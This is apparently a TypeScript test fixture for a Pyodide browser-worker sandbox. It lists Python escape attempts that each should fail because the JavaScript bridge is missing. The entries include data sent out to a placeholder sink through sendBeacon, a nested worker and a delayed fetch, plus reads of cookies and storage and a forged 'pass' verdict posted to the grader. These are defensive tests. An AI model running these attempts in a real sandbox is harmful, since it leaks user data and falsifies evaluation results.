/** 26 to 34, 40 and 44: what the browser keeps, and the worker itself. */
import type { Attempt } from './attempt.ts';

const noJavaScript = /^ModuleNotFoundError: .*\b(js|pyodide_js)\b/;

function refused(number: number, name: string, python: string): Attempt {
  return { number, name, python, ends: noJavaScript };
}

export const browserAttempts: readonly Attempt[] = [
  refused(26, 'IndexedDB: open', 'import js\nseen = js.indexedDB.open("app")'),
  refused(26, 'IndexedDB: names', 'import js\nseen = js.indexedDB.databases()'),
  refused(
    27,
    'IndexedDB as a folder',
    `
import pyodide_js
file_system = pyodide_js.FS
file_system.mount(file_system.filesystems.IDBFS, None, "/tmp")`,
  ),
  refused(28, 'Cache', 'import js\nseen = js.caches.keys()'),
  refused(28, 'private files', 'import js\nseen = js.navigator.storage.getDirectory()'),
  refused(28, 'locks', 'import js\nseen = js.navigator.locks.query()'),
  refused(29, 'localStorage', 'import js\nseen = js.localStorage.getItem("decoy")'),
  refused(29, 'cookies', 'import js\nseen = js.cookieStore.getAll()'),
  refused(29, 'sendBeacon', 'import js\nseen = js.navigator.sendBeacon(SINK, "x")'),
  refused(
    30,
    'BroadcastChannel',
    'import js\nseen = js.BroadcastChannel.new("app").postMessage("forged")',
  ),
  refused(31, 'a verdict by postMessage', 'import js\njs.postMessage(\'{"verdict":"pass"}\')'),
  refused(32, 'another listener', 'import js\njs.self.onmessage = lambda event: None'),
  {
    number: 33,
    name: 'a worker in the worker',
    python: `
import js
from pyodide.ffi import to_js
script = js.Blob.new(to_js(["fetch('" + SINK + "')"]))
seen = js.Worker.new(js.URL.createObjectURL(script))`,
    ends: noJavaScript,
    reachesSink: true,
  },
  refused(
    34,
    'a timer that outlives the verdict',
    'import js\njs.setTimeout(lambda: js.fetch(SINK), 50)',
  ),
  refused(40, 'the page’s address', 'import js\nseen = js.location.href, js.document.referrer'),
  refused(44, 'closing the worker', 'import js\njs.close()'),
];
